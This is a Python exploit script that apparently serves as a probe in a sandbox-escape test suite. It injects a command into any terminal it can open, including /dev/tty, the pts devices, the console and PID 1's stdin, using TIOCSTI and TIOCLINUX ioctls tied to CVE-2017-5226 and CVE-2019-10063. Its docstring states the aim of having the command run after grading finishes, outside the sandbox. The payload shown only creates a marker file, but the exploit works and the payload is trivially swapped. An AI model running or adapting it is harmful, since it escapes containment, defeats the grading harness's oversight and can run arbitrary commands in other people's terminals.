"""Types into a terminal that it may have, so that a command runs when the grading is over."""

SOURCE = "CVE-2017-5226, and CVE-2019-10063 for the request with bits beyond the 32nd"
SUCCESS = "a file that the typed command leaves"

# %%
import ctypes
import glob
import os

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.argtypes = (ctypes.c_long, ctypes.c_long, ctypes.c_ulong, ctypes.c_char_p)
command = b"touch /tmp/@TOKEN@-@NAME@\n"
descriptors = {str(number): number for number in range(10)}
for path in (
    "/dev/tty",
    "/dev/tty0",
    "/dev/console",
    "/dev/pts/0",
    "/dev/ptmx",
    *glob.glob("/dev/pts/*"),
    "/proc/1/fd/0",
):
    try:
        descriptors[path] = os.open(path, os.O_RDWR | os.O_NOCTTY)
    except OSError as error:
        print(error)
if os.fork() == 0:
    os.setsid()
    for path, descriptor in descriptors.items():
        libc.syscall(16, descriptor, 0x540E, b"\1")  # TIOCSCTTY
        for request in (0x5412, 0x1_0000_5412, 0xFFFF_FFFF_0000_5412, 0x541C, 0x1_0000_541C, 0x541D):
            results = {libc.syscall(16, descriptor, request, bytes([letter])) for letter in command}
            reason = "SUCCEEDED" if 0 in results else os.strerror(ctypes.get_errno())
            os.write(1, f"{path} {request:#x} {reason}\n".encode())
    os.write(1, b"attempted\n")
    os._exit(0)
os.wait()
